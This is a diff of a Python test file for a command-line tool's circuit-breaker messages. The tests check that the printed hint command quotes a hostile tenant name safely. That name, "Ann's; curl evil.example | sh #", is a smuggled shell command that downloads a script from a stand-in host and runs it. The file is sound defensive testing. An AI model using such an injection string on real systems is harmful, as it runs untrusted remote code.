@@ -1,20 +1,47 @@
-"""What the command line says of breakers."""
+"""What a person reads of a breaker says why calls stop, and names a command that works as it stands."""
 
 from __future__ import annotations
 
 import shlex
+from typing import Any
 
-from fairlead.cli.breakers import problem_of
+import pytest
+
+from fairlead.cli.breakers import breaker_record, problem_of
+from fairlead.engine.ports.gate_view import BreakerView, DestinationView, FailureView
+from fairlead.policy.gate.breaker import Destination
+
+EVIL = "Ann's; curl evil.example | sh #"
+"""Customers choose their names, and operators copy the command into a shell."""
 
 
-def test_the_command_in_a_hint_quotes_the_tenant() -> None:
-    """Customers choose their names, and operators copy the command into a shell."""
-    tenant = "acme; curl evil.example | sh #"
-    told = problem_of(
-        {
-            "tenant": tenant, "provider": "stripe", "bucket": "default", "host": "api.stripe.com",
-            "mode": "open", "last_failure_s_ago": 1.0, "lanes_held": 0,
-        }
-    )  # fmt: skip
-    command = told.partition("(hint: `")[2].partition("`)")[0]
-    assert shlex.split(command) == ["fairlead", "gate", "status", "-t", tenant, "-p", "stripe"]
+def record(bucket: str = "default", tenant: str = "acme", lanes: int = 1) -> dict[str, Any]:
+    view = DestinationView(
+        Destination("stripe", bucket, tenant, "api.test"),
+        BreakerView("open", 0, 1, 40.0, 0, 0),
+        (FailureView(19.26, 60.0, cause="http_500"), FailureView(20.0, None, cause="dns")),
+    )
+    return {
+        "tenant": tenant,
+        "provider": "stripe",
+        "bucket": bucket,
+        **breaker_record(view),
+        "lanes_held": lanes,
+    }
+
+
+def test_the_last_failure_is_named() -> None:
+    assert (record()["last_failure"], record()["last_failure_ago_s"]) == ("http_500", 19.26)
+    assert "the last failure (http_500) was 19 s ago, jobs wait in 1 lane (" in problem_of(record())
+
+
+@pytest.mark.parametrize(
+    ("bucket", "tenant", "options"),
+    [
+        ("default", "acme", ["-t", "acme", "-p", "stripe"]),
+        ("eu", EVIL, ["-t", EVIL, "-p", "stripe", "-b", "eu"]),
+    ],
+)
+def test_the_command_of_the_hint_can_be_pasted(bucket: str, tenant: str, options: list[str]) -> None:
+    command = problem_of(record(bucket, tenant)).partition("(hint: `")[2].removesuffix("`)")
+    assert shlex.split(command) == ["fairlead", "gate", "status", *options]
